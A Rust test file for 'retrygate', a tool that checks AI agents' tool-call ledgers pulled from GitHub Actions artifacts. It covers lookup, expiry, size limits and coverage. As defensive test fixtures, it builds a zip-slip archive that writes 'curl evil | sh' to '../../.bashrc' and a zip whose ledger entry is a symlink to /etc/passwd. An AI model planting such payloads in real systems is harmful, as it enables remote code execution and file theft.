//! The tool ledger as an Actions artifact (issue 16): the gate finds the
//! newest unexpired artifact named `ledger.artifact` of a run on the head
//! commit through the artifacts API of the fake GitHub, downloads it
//! through the redirect, reads the ledger out of the zip in memory and
//! verifies it like a committed one; `retrygate check --ledger-artifact ZIP`
//! does the same with a local zip.
//!
//! Real git repositories, real ledgers written by `retrygate ledger append`,
//! real zips, the real download code against the fake on a loopback port.

use crate::common;
use crate::fake_github;

use std::path::Path;
use std::process::Command;

use common::Repo;
use fake_github::{FakeGithub, FaultKind, ACTIONS_TOKEN, OWNER_REPO};
use retrygate::gate::{check, CheckInput, GateOutcome};
use retrygate::ledger::append::{append, NewRecord};
use retrygate::ledger::artifact::zip_entries;
use retrygate::ledger::pyjson::Value as PyValue;
use retrygate::printer::Verdict;
use retrygate::testing::github::GithubArtifacts;
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

const NAME: &str = "tool-ledger";
const V1: &str = "pub fn total(a: u32, b: u32) -> u32 {\n    a + b\n}\n";
const V2: &str = "pub fn total(a: u32, b: u32) -> u32 {\n    a.saturating_add(b)\n}\n";
const V3: &str = "pub fn total(a: u32, b: u32) -> u32 {\n    a.checked_add(b).unwrap_or(u32::MAX)\n}\n";

/// A repository whose `main` has `src/sum.rs` at V1, and a branch
/// `claude/sum` whose first commit sets it to V2.
struct Pr {
    repo: Repo,
    base: String,
    head: String,
}

fn pr() -> Pr {
    let repo = Repo::new();
    repo.write("src/sum.rs", V1);
    let base = repo.commit("base");
    repo.branch("claude/sum");
    repo.write("src/sum.rs", V2);
    let head = repo.commit("Saturate the sum\n\nCo-authored-by: Claude <noreply@anthropic.com>");
    Pr { repo, base, head }
}

/// The ledger of an agent session that edited `src/sum.rs` to each of
/// `contents` in turn (v2 records with the content hashes), as bytes.
fn session(contents: &[&str]) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(".tool_ledger.jsonl");
    let obj = |k: &str, v: &str| PyValue::Object(vec![(k.to_string(), PyValue::Str(v.to_string()))]);
    append(&path, NewRecord { tool: "Read".into(), payload: obj("path", "src/sum.rs"), sha256: None })
        .unwrap();
    for c in contents {
        let sha = hex::encode(Sha256::digest(c.as_bytes()));
        append(
            &path,
            NewRecord { tool: "Edit".into(), payload: obj("path", "src/sum.rs"), sha256: Some(Some(sha)) },
        )
        .unwrap();
    }
    std::fs::read(&path).unwrap()
}

fn zip_of(ledger: &[u8]) -> Vec<u8> {
    zip_entries(&[(".tool_ledger.jsonl", ledger)]).unwrap()
}

fn artifacts(fake: &FakeGithub) -> GithubArtifacts {
    GithubArtifacts::new(&fake.url, ACTIONS_TOKEN, OWNER_REPO, Some("https://github.com"))
}

fn gate(pr: &Pr, fake: &FakeGithub) -> anyhow::Result<GateOutcome> {
    check(&CheckInput {
        artifacts: Some(artifacts(fake).shared()),
        ..CheckInput::new(pr.repo.path(), "main", "claude/sum")
    })
}

fn codes(o: &GateOutcome) -> Vec<&str> {
    o.gate.reasons.iter().map(|r| r.code.as_str()).collect()
}

/// Why the ledger is missing: the reason says how many places were looked
/// in, and the ledger's own first problem says what each one held.
fn missing_why(o: &GateOutcome) -> &str {
    let r = reason(o, "ledger-missing");
    assert!(r.starts_with("no tool-call ledger was found in the "), "{r}");
    let ledger = o.gate.evidence.ledger.as_ref().expect("the ledger's evidence");
    &ledger.problems.first().expect("a problem that says where the gate looked").message
}

fn reason<'a>(o: &'a GateOutcome, code: &str) -> &'a str {
    &o.gate
        .reasons
        .iter()
        .find(|r| r.code == code)
        .unwrap_or_else(|| panic!("no {code} in {:?}", o.gate.reasons))
        .message
}

#[test]
fn an_artifact_of_a_run_on_the_head_carries_the_ledger_requirement() {
    let fake = FakeGithub::start();
    let pr = pr();
    let id = fake.add_artifact(NAME, 77, &pr.head, "2026-11-30T10:00:00Z", zip_of(&session(&[V2])));
    let o = gate(&pr, &fake).unwrap();
    assert!(o.gate.facts.as_ref().is_some_and(|f| f.agent.is_agent));
    assert_eq!((o.verdict, codes(&o)), (Verdict::Pass, vec![]), "{}", o.markdown);

    // The verdict JSON says where the ledger came from.
    let ledger = &o.json["evidence"]["ledger"];
    assert_eq!(ledger["valid"], true);
    assert_eq!(ledger["coverage"]["explained"], 1);
    assert_eq!(ledger["origin"]["kind"], "artifact");
    assert_eq!(ledger["origin"]["artifact_id"], id);
    assert_eq!(ledger["origin"]["run_id"], 77);
    assert_eq!(ledger["origin"]["entry"], ".tool_ledger.jsonl");
    assert_eq!(ledger["origin"]["run_url"], "https://github.com/Codertocat/Hello-World/actions/runs/77");
    // So does the comment, with the link to the run.
    let from = format!(
        "From `.tool_ledger.jsonl` in artifact {id} `tool-ledger` of [workflow run 77](https://github.com/Codertocat/Hello-World/actions/runs/77)."
    );
    assert!(o.markdown.contains(&from), "{}", o.markdown);

    // Listed by name, downloaded through the redirect, the signed URL
    // fetched without the token.
    let log = fake.log();
    let list = log.iter().find(|l| l.path.ends_with("/actions/artifacts")).expect("the list was asked");
    assert!(list.query.contains("name=tool-ledger") && list.authorized, "{}", list.query);
    let redirect = log.iter().find(|l| l.path.ends_with(&format!("/artifacts/{id}/zip"))).unwrap();
    assert_eq!((redirect.status, redirect.authorized), (302, true));
    let blob = log.iter().find(|l| l.path.starts_with("/_blob/")).expect("the zip was fetched");
    assert_eq!((blob.status, blob.authorized), (200, false), "the token never travels to the storage");
}

#[test]
fn without_artifact_lookup_the_same_change_is_missing_its_ledger() {
    // The test above fails when the download code is removed: the same
    // change, no way to reach the artifact, blocks.
    let fake = FakeGithub::start();
    let pr = pr();
    fake.add_artifact(NAME, 77, &pr.head, "2026-11-30T10:00:00Z", zip_of(&session(&[V2])));
    let o = check(&CheckInput::new(pr.repo.path(), "main", "claude/sum")).unwrap();
    assert_eq!(codes(&o), ["ledger-missing"]);
    assert!(missing_why(&o).contains("not looked up (no GitHub access here; pass --ledger-artifact ZIP)"));
    assert!(fake.log().is_empty());
}

#[test]
fn the_agent_run_that_started_on_the_base_and_pushed_the_head_is_taken() {
    // An agent's workflow run starts on the commit it branched from and
    // pushes the head during the run: its run is on the base, its ledger
    // explains the head.
    let fake = FakeGithub::start();
    let pr = pr();
    let id = fake.add_artifact(NAME, 70, &pr.base, "2026-11-29T10:00:00Z", zip_of(&session(&[V2])));
    let o = gate(&pr, &fake).unwrap();
    assert_eq!((o.verdict, codes(&o)), (Verdict::Pass, vec![]), "{}", o.markdown);
    assert_eq!(o.json["evidence"]["ledger"]["origin"]["artifact_id"], id);
    assert_eq!(o.json["evidence"]["ledger"]["origin"]["head_sha"], pr.base.as_str());
}

#[test]
fn an_artifact_for_an_older_head_fails_coverage() {
    let fake = FakeGithub::start();
    let pr = pr();
    let first_head = pr.head.clone();
    // The first push's run uploaded the first session's ledger; the agent
    // then pushed V3 with no new ledger.
    fake.add_artifact(NAME, 71, &first_head, "2026-11-29T10:00:00Z", zip_of(&session(&[V2])));
    pr.repo.write("src/sum.rs", V3);
    pr.repo.commit("Check the sum\n\nCo-authored-by: Claude <noreply@anthropic.com>");
    let o = gate(&pr, &fake).unwrap();
    assert_eq!(codes(&o), ["ledger-invalid"], "{}", o.markdown);
    let ledger = &o.json["evidence"]["ledger"];
    assert_eq!(ledger["origin"]["head_sha"], first_head.as_str());
    assert_eq!(ledger["coverage"]["unexplained"], json!(["src/sum.rs"]));
    let why = reason(&o, "ledger-invalid");
    assert!(why.contains("src/sum.rs changed in the pull request") || why.contains("src/sum.rs"), "{why}");
}

#[test]
fn an_artifact_of_a_commit_outside_the_pull_request_is_not_taken() {
    let fake = FakeGithub::start();
    let pr = pr();
    // A run on main after the branch point: another change's artifact.
    pr.repo.checkout("main");
    pr.repo.write("README.md", "main moved on\n");
    let elsewhere = pr.repo.commit("unrelated");
    pr.repo.checkout("claude/sum");
    fake.add_artifact(NAME, 70, &elsewhere, "2026-11-29T10:00:00Z", zip_of(&session(&[V2])));
    let o = gate(&pr, &fake).unwrap();
    assert_eq!(codes(&o), ["ledger-missing"]);
    let why = missing_why(&o);
    assert!(
        why.contains(&format!(
            "the Actions artifacts of Codertocat/Hello-World: none of the 1 artifacts named `tool-ledger` comes from a run on {} or on an earlier commit of the pull request (the newest is from a run on {})",
            &pr.head[..7],
            &elsewhere[..7]
        )),
        "{why}"
    );
    assert_eq!(fake.count("GET", "/zip"), 0, "nothing is downloaded");
}

#[test]
fn of_earlier_runs_the_first_whose_ledger_verifies_is_taken() {
    // Two agent PRs branched from the same main commit: the newer artifact
    // of a run on the base belongs to the other one.
    let fake = FakeGithub::start();
    let pr = pr();
    let ours = fake.add_artifact(NAME, 70, &pr.base, "2026-11-29T10:00:00Z", zip_of(&session(&[V2])));
    fake.add_artifact(NAME, 71, &pr.base, "2026-11-29T11:00:00Z", zip_of(&session(&[V3])));
    let o = gate(&pr, &fake).unwrap();
    assert_eq!(codes(&o), Vec::<&str>::new(), "{}", o.markdown);
    assert_eq!(o.json["evidence"]["ledger"]["origin"]["artifact_id"], ours);
}

#[test]
fn a_ledger_of_an_older_push_uploaded_for_the_head_fails_coverage() {
    let fake = FakeGithub::start();
    let pr = pr();
    // The agent pushes again (V3), but its run uploads the first session's ledger.
    pr.repo.write("src/sum.rs", V3);
    let head = pr.repo.commit("Check the sum\n\nCo-authored-by: Claude <noreply@anthropic.com>");
    fake.add_artifact(NAME, 78, &head, "2026-11-30T11:00:00Z", zip_of(&session(&[V2])));
    let o = gate(&pr, &fake).unwrap();
    assert_eq!(codes(&o), ["ledger-invalid"], "{}", o.markdown);
    let ledger = &o.json["evidence"]["ledger"];
    assert_eq!(ledger["coverage"]["unexplained"], json!(["src/sum.rs"]));
    assert_eq!(ledger["origin"]["kind"], "artifact");
    assert!(reason(&o, "ledger-invalid").contains("src/sum.rs"), "{}", reason(&o, "ledger-invalid"));
}

#[test]
fn an_expired_artifact_blocks_and_says_so() {
    let fake = FakeGithub::start();
    let pr = pr();
    let id = fake.add_artifact(NAME, 77, &pr.head, "2026-10-01T10:00:00Z", zip_of(&session(&[V2])));
    fake.with(|s| s.artifacts[0].expired = true);
    let o = gate(&pr, &fake).unwrap();
    assert_eq!(codes(&o), ["ledger-missing"]);
    let why = missing_why(&o);
    assert!(
        why.contains(&format!("artifact {id} `tool-ledger` of workflow run 77 (https://github.com/Codertocat/Hello-World/actions/runs/77) expired on 2026-11-01T00:00:00Z; re-run the agent's workflow")),
        "{why}"
    );
    assert_eq!(fake.count("GET", "/zip"), 0);
}

#[test]
fn an_artifact_that_expires_between_list_and_download_blocks_and_says_so() {
    let fake = FakeGithub::start();
    let pr = pr();
    fake.add_artifact(NAME, 77, &pr.head, "2026-11-30T10:00:00Z", zip_of(&session(&[V2])));
    fake.with(|s| s.artifacts[0].gone = true);
    let o = gate(&pr, &fake).unwrap();
    let why = missing_why(&o);
    assert!(why.contains("expired while it was being fetched (GitHub answered 410 Gone)"), "{why}");
    assert_eq!(fake.count("GET", "/_blob/"), 0);
}

#[test]
fn no_artifact_lists_the_places_looked_in_order() {
    let fake = FakeGithub::start();
    let pr = pr();
    let o = gate(&pr, &fake).unwrap();
    assert_eq!(codes(&o), ["ledger-missing"]);
    let why = missing_why(&o);
    let places = [
        format!("(1) `.tool_ledger.jsonl` committed at {}: not there", &pr.head[..7]),
        "(2) the Actions artifacts of Codertocat/Hello-World: no artifact named `tool-ledger`".to_string(),
        "(3) `.tool_ledger.jsonl` in the working tree".to_string(),
    ];
    let at: Vec<usize> =
        places.iter().map(|p| why.find(p.as_str()).unwrap_or_else(|| panic!("{p:?} not in {why}"))).collect();
    assert!(at.windows(2).all(|w| w[0] < w[1]), "in order: {why}");
    assert!(why.starts_with("no tool-call ledger found; looked, in order:"), "{why}");
    // The comment lists them as a numbered list.
    assert!(o.markdown.contains("⛔ **Ledger missing**. Looked, in order:\n\n1. "), "{}", o.markdown);
}

#[test]
fn an_oversized_zip_is_refused_whether_announced_or_not() {
    let fake = FakeGithub::start();
    let pr = pr();
    // Announced: refused from the listing, never downloaded.
    fake.add_artifact(NAME, 77, &pr.head, "2026-11-30T10:00:00Z", zip_of(&session(&[V2])));
    fake.with(|s| s.artifacts[0].size_in_bytes = Some(40 << 20));
    let o = gate(&pr, &fake).unwrap();
    let why = missing_why(&o);
    assert!(why.contains("is 41943040 bytes, over the 16 MiB an artifact zip may have"), "{why}");
    assert_eq!(fake.count("GET", "/zip"), 0);

    // Understated: the download stops at the limit.
    let fake = FakeGithub::start();
    fake.add_artifact(NAME, 77, &pr.head, "2026-11-30T10:00:00Z", vec![b'x'; (16 << 20) + 1]);
    fake.with(|s| s.artifacts[0].size_in_bytes = Some(1000));
    let o = gate(&pr, &fake).unwrap();
    let why = missing_why(&o);
    assert!(
        why.contains("sent more than the 16 MiB an artifact zip may have (its listing said 1000 bytes)"),
        "{why}"
    );
}

#[test]
fn a_zip_slip_entry_makes_the_artifact_invalid() {
    let fake = FakeGithub::start();
    let pr = pr();
    let ledger = session(&[V2]);
    let zip =
        zip_entries(&[(".tool_ledger.jsonl", &ledger), ("../../.bashrc", b"curl evil | sh\n")]).unwrap();
    let id = fake.add_artifact(NAME, 77, &pr.head, "2026-11-30T10:00:00Z", zip);
    let o = gate(&pr, &fake).unwrap();
    assert_eq!(codes(&o), ["ledger-invalid"]);
    let why = reason(&o, "ledger-invalid");
    assert!(
        why.contains(&format!("artifact {id} `tool-ledger`: entry `../../.bashrc` climbs out of the archive with `..` (zip-slip); the artifact is refused")),
        "{why}"
    );
    assert_eq!(o.json["evidence"]["ledger"]["origin"]["entry"], Value::Null);
}

#[test]
fn a_committed_ledger_wins_over_an_artifact() {
    let fake = FakeGithub::start();
    let pr = pr();
    pr.repo.write(".tool_ledger.jsonl", session(&[V2]));
    let head = pr.repo.commit("ledger\n\nCo-authored-by: Claude <noreply@anthropic.com>");
    // A broken artifact for the same head: were it read, the gate would block.
    fake.add_artifact(NAME, 77, &head, "2026-11-30T10:00:00Z", zip_of(b"garbage\n"));
    let o = gate(&pr, &fake).unwrap();
    assert_eq!(codes(&o), Vec::<&str>::new(), "{}", o.markdown);
    let origin = &o.json["evidence"]["ledger"]["origin"];
    assert_eq!(
        (origin["kind"].as_str(), origin["commit"].as_str()),
        (Some("file-at-head"), Some(head.as_str()))
    );
    assert!(
        o.markdown.contains(&format!("From `.tool_ledger.jsonl` committed at `{}`.", &head[..7])),
        "{}",
        o.markdown
    );
    assert!(fake.log().is_empty(), "no artifact is looked up when the head carries the ledger");
}

#[test]
fn of_two_artifacts_for_the_head_the_newest_wins() {
    let fake = FakeGithub::start();
    let pr = pr();
    // The newer one has the lower id: creation time decides, not the id.
    let newer = fake.add_artifact(NAME, 79, &pr.head, "2026-11-30T12:00:00Z", zip_of(&session(&[V2])));
    let older =
        fake.add_artifact(NAME, 78, &pr.head, "2026-11-30T09:00:00Z", zip_of(b"{\"broken\": true}\n"));
    assert!(newer < older);
    let o = gate(&pr, &fake).unwrap();
    assert_eq!((o.verdict, codes(&o)), (Verdict::Pass, vec![]), "{}", o.markdown);
    assert_eq!(o.json["evidence"]["ledger"]["origin"]["artifact_id"], newer);
    assert_eq!(fake.count("GET", &format!("/artifacts/{older}/zip")), 0);

    // And the newest unexpired one: expire the newer, the older is taken.
    fake.with(|s| s.artifacts.iter_mut().for_each(|a| a.expired = a.id == newer));
    let o = gate(&pr, &fake).unwrap();
    assert_eq!(codes(&o), ["ledger-invalid"]);
    assert_eq!(o.json["evidence"]["ledger"]["origin"]["artifact_id"], older);
}

#[test]
fn artifacts_of_another_name_are_not_taken() {
    let fake = FakeGithub::start();
    let pr = pr();
    fake.add_artifact("coverage", 77, &pr.head, "2026-11-30T10:00:00Z", zip_of(&session(&[V2])));
    let o = gate(&pr, &fake).unwrap();
    assert!(missing_why(&o).contains("no artifact named `tool-ledger`"));
}

#[test]
fn a_token_without_actions_read_blocks_and_says_which_permission() {
    let fake = FakeGithub::start();
    let pr = pr();
    fake.fault("GET", "/actions/artifacts", 0, FaultKind::Before(403));
    let o = gate(&pr, &fake).unwrap();
    let why = missing_why(&o);
    assert!(
        why.contains("could not be listed") && why.contains("give the job `permissions: actions: read`"),
        "{why}"
    );
}

#[test]
fn an_artifacts_api_that_keeps_failing_cannot_decide() {
    let fake = FakeGithub::start();
    let pr = pr();
    for _ in 0..6 {
        fake.fault("GET", "/actions/artifacts", 0, FaultKind::Before(404));
    }
    let e = gate(&pr, &fake).unwrap_err();
    assert!(
        format!("{e:#}").contains("listing the Actions artifacts named `tool-ledger`: GitHub answered 404"),
        "{e:#}"
    );
}

// --- retrygate check --ledger-artifact ZIP --------------------------------

fn cli(repo: &Path, args: &[&str]) -> (i32, Value, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_retrygate"))
        .args(["check", "--repo"])
        .arg(repo)
        .args(["--base", "main", "--head", "claude/sum", "--format", "json"])
        .args(args)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let json = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    (out.status.code().unwrap_or(-1), json, stderr)
}

#[test]
fn check_ledger_artifact_gives_the_actions_verdict_locally() {
    let pr = pr();
    let dir = tempfile::tempdir().unwrap();
    let zip = dir.path().join("tool-ledger.zip");
    std::fs::write(&zip, zip_of(&session(&[V2]))).unwrap();
    let (code, v, err) = cli(pr.repo.path(), &["--ledger-artifact", zip.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}\n{v}");
    let origin = &v["evidence"]["ledger"]["origin"];
    assert_eq!(origin["kind"], "artifact-file");
    assert_eq!(origin["entry"], ".tool_ledger.jsonl");
    assert_eq!(origin["zip"], zip.to_str().unwrap());

    // The ledger of another change fails coverage, as in the Action.
    std::fs::write(&zip, zip_of(&session(&[V3]))).unwrap();
    let (code, v, _) = cli(pr.repo.path(), &["--ledger-artifact", zip.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert_eq!(v["reasons"][0]["code"], "ledger-invalid");
    assert_eq!(v["evidence"]["ledger"]["coverage"]["unexplained"], json!(["src/sum.rs"]));
}

#[test]
fn check_ledger_artifact_refuses_symlinks_absolute_names_and_missing_zips() {
    let pr = pr();
    let dir = tempfile::tempdir().unwrap();
    let zip = dir.path().join("a.zip");
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    w.add_symlink(".tool_ledger.jsonl", "/etc/passwd", zip::write::SimpleFileOptions::default()).unwrap();
    std::fs::write(&zip, w.finish().unwrap().into_inner()).unwrap();
    let (code, v, _) = cli(pr.repo.path(), &["--ledger-artifact", zip.to_str().unwrap()]);
    assert_eq!(code, 1);
    let msg = v["reasons"][0]["message"].as_str().unwrap();
    assert!(msg.contains("entry `.tool_ledger.jsonl` is a symbolic link; the artifact is refused"), "{msg}");

    std::fs::write(&zip, zip_entries(&[("/tmp/.tool_ledger.jsonl", &session(&[V2]))]).unwrap()).unwrap();
    let (code, v, _) = cli(pr.repo.path(), &["--ledger-artifact", zip.to_str().unwrap()]);
    assert_eq!(code, 1);
    let msg = v["reasons"][0]["message"].as_str().unwrap();
    assert!(msg.contains("entry `/tmp/.tool_ledger.jsonl` has an absolute name"), "{msg}");

    let (code, _, err) = cli(pr.repo.path(), &["--ledger-artifact", "/nonexistent/tool-ledger.zip"]);
    assert_eq!(code, 2);
    assert!(err.contains("--ledger-artifact: /nonexistent/tool-ledger.zip: no such file; pass the zip of the `tool-ledger` artifact"), "{err}");
    let (code, _, err) = cli(pr.repo.path(), &["--ledger-artifact", "/dev/zero"]);
    assert_eq!(code, 2);
    assert!(err.contains("is a character device, not a regular file"), "{err}");
}

// --- retrygate github, the binary, end to end ------------------------------

#[test]
fn the_action_finds_the_artifact_and_the_comment_says_where_from() {
    let fake = FakeGithub::start();
    let pr = pr();
    let id = fake.add_artifact(NAME, 77, &pr.head, "2026-11-30T10:00:00Z", zip_of(&session(&[V2])));
    let dir = tempfile::tempdir().unwrap();
    let path =
        format!("{}/tests/fixtures/github/pull_request__opened.payload.json", env!("CARGO_MANIFEST_DIR"));
    let mut ev: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    ev["pull_request"]["head"]["sha"] = json!(pr.head);
    ev["pull_request"]["base"]["sha"] = json!(pr.base);
    let event_path = dir.path().join("event.json");
    std::fs::write(&event_path, ev.to_string()).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_retrygate"))
        .arg("github")
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("GITHUB_EVENT_NAME", "pull_request")
        .env("GITHUB_EVENT_PATH", &event_path)
        .env("GITHUB_REPOSITORY", OWNER_REPO)
        .env("GITHUB_API_URL", &fake.url)
        .env("GITHUB_TOKEN", ACTIONS_TOKEN)
        .env("GITHUB_WORKSPACE", pr.repo.path())
        .env("GITHUB_STEP_SUMMARY", dir.path().join("summary.md"))
        .env("GITHUB_OUTPUT", dir.path().join("output.txt"))
        .env("GITHUB_SERVER_URL", "https://github.com")
        .env("GITHUB_RUN_ID", "7")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let comment = fake.comments().pop().expect("the sticky comment").body;
    assert!(comment.contains("✅ retrygate: passing"), "{comment}");
    assert!(
        comment.contains(&format!("From `.tool_ledger.jsonl` in artifact {id} `tool-ledger` of [workflow run 77](https://github.com/Codertocat/Hello-World/actions/runs/77).")),
        "{comment}"
    );
}
